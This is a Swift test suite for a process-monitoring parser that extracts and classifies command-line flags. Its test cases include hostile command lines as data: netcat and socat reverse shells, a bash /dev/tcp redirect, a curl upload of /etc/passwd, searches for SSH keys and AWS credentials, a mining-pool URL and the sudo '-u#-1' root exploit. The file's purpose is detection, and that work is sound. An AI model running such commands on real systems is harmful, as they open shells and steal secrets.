import Testing

@testable import Baseline

@Suite("The flags of a start")
struct StartFlagsTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var line: String
        var flags: [String]?
        var testDescription: String { line }

        init(_ line: String, _ flags: [String]?) { (self.line, self.flags) = (line, flags) }
    }

    @Test(
        "Each flag once, sorted, without its value",
        arguments: [
            Case("nc -l -v -p 4444", ["-l", "-p", "-v"]),
            Case("nc -lvp 4444", ["-l", "-p", "-v"]),
            Case("nc -vlp4444 -v", ["-l", "-p", "-v"]),
            Case("nc -e /bin/sh 10.0.0.1 9", ["-e"]),
            Case("nc -e -v 10.0.0.1 9", ["-e"]),
            Case("nc 10.0.0.1 9", []),
            Case("nc.traditional -e x", ["-e"]),
            Case("curl -sSL -o out http://h", ["-L", "-S", "-o", "-s"]),
            Case("curl -oout http://h -s", ["-o", "-s"]),
            Case("curl --output=out --upload-file /etc/passwd http://h", ["--output", "--upload-file"]),
            Case("curl -uname:hunter2 -H Authorization:hunter2 --password=hunter2 h", ["--password", "-H", "-u"]),
            Case("curl -- -s", []),
            Case("wget -q -O - http://h", ["-O", "-q"]),
            Case("ssh -p 22 host -v rm -rf /", ["-p", "-v"]),
            Case("sshpass -phunter2 ssh -v host", ["-p"]),
            Case("sudo -u root ls -la", ["-u"]),
            Case("sudo --user root -n ls -la", ["--user", "-n"]),
            Case("tar xzf a.tgz", ["-f", "-x", "-z"]),
            Case("tar -xzf a.tgz --to-command=sh", ["--to-command", "-f", "-x", "-z"]),
            Case("tar a.tgz", []),
            Case("base64 -d x", ["-d"]),
            Case("openssl enc -d -pass pass:hunter2", ["-d", "-pass"]),
            Case("gzip -9 x", ["-9"]),
            Case("docker run --privileged -it -v/:/host alpine", ["--privileged", "-i", "-t", "-v"]),
            Case("rclone -phunter2 --dry-run", ["--dry-run", "-p"]),
            Case("nc --\u{e9}vil -\u{e9} -", []),
            Case("sh -c x", []),
            Case("sh -ec x", ["-e"]),
            Case("sh -e -o pipefail /run.sh -x", ["-e", "-o"]),
            Case("-sh", []),
            Case("bash --rcfile /x -i", ["--rcfile", "-i"]),
            Case("python3 -B -W ignore -c code -x", ["-B", "-W"]),
            Case("python3 -Im http.server -x", ["-I"]),
            Case("python3 app.py --port 80", []),
            Case("perl -MIO::Socket -e code", ["-M"]),
            Case("node --inspect=0.0.0.0 -r ./x.js app.js --y", ["--inspect", "-r"]),
            Case("nginx -g x", nil),
            Case("grep -r colour /", nil),
            Case("grep -r id_rsa /", ["<secrets>"]),
            Case("find / -name .aws/credentials", ["<secrets>"]),
            Case("x -o stratum+tcp://pool:3333", ["<stratum>"]),
            Case("socat tcp:h:1 EXEC:/bin/sh", ["<program>"]),
            Case("bash -c echo>/dev/tcp/h/1", ["<dev-tcp>"]),
            Case("sudo -u#-1 id", ["-u", "<root-exploit>"]),
        ])
    func table(example: Case) {
        let words = example.line.split(separator: " ").map(String.init)
        let found = StartFlags.of(program: words[0], arguments: words, words: Array(words.dropFirst()))
        #expect(found == example.flags)
        #expect(!(found ?? []).joined().contains("hunter2"), "no value is kept")
    }

    @Test("A start without any argument, not even a name, is told of every program")
    func emptyArgv() {
        #expect(StartFlags.of(program: "nginx", arguments: [""], words: []) == ["<empty>"])
        #expect(StartFlags.of(program: "nginx", arguments: ["nginx"], words: []) == nil)
        #expect(StartFlags.of(program: "nginx", arguments: [], words: []) == nil, "not known is not empty")
    }

    @Test("Arguments that were cut may hide flags, unless the script had begun")
    func cut() {
        func flags(_ line: String) -> [String]? {
            let words = line.split(separator: " ").map(String.init)
            return StartFlags.of(program: words[0], arguments: words, words: Array(words.dropFirst()), isCut: true)
        }
        #expect(flags("nc -l x") == ["-l", "<unread>"])
        #expect(flags("sh -e /run.sh x") == ["-e"])
        #expect(flags("java -cp x") == nil)
    }

    @Test("More flags than anybody writes are cut off and told")
    func many() {
        let words = (0..<100).map { "--flag-\($0)" }
        let found = StartFlags.of(program: "curl", arguments: ["curl"] + words, words: words) ?? []
        #expect(found.count == StartFlags.limit + 1)
        #expect(found.contains("<unread>"))
        let long = "--" + String(repeating: "a", count: 900)
        #expect(StartFlags.of(program: "curl", arguments: [], words: [long])?.first?.count == StartFlags.longestName)
    }

    /// For every command line of known pieces, the order and the values change nothing.
    @Test("Order and values change nothing", arguments: UInt64(1)...50)
    func order(seed: UInt64) {
        var random = SeededGenerator(seed: seed)
        func line(_ random: inout SeededGenerator) -> [String] {
            func value() -> String { random.text(6, of: alphanumeric) }
            let pieces = [
                ["-s"], ["-o", value()], ["-H" + value()], ["--retry=" + value()], ["-k"], ["http://h/" + value()],
            ]
            return pieces.shuffled(using: &random).flatMap { $0 }
        }
        let first = StartFlags.of(program: "curl", arguments: [], words: line(&random))
        #expect(first == ["--retry", "-H", "-k", "-o", "-s"])
        #expect(StartFlags.of(program: "curl", arguments: [], words: line(&random)) == first)
    }
}
